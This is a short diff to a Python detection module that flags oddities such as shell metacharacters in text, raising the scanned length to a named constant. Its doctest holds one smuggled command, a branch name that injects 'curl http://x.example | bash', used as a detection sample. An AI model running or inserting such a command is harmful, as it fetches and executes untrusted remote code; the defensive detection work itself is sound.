@@ -9,6 +9,8 @@ from urllib.parse import urlsplit
 from collector.masking import mask_text
 
 MAX_SHAPE = 120
+MAX_LOOKED_AT = 32_768
+"""Characters of a long text that are searched for what is odd."""
 _VARYING = re.compile(
     r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
     r"|\d{4}-\d\d-\d\d[t ]\d\d:\d\d:\d\d[0-9.]*(?:z|[+-]\d\d:?\d\d)?"
@@ -47,7 +49,7 @@ def oddities_of(text: str, long: int) -> list[str]:
     >>> oddities_of('feature/a"; curl http://x.example | bash', 100)
     ['shell metacharacters']
     """
-    head = text[:20000]
+    head = text[:MAX_LOOKED_AT]
     odd = []
     if _SHELL.search(head):
         odd.append("shell metacharacters")
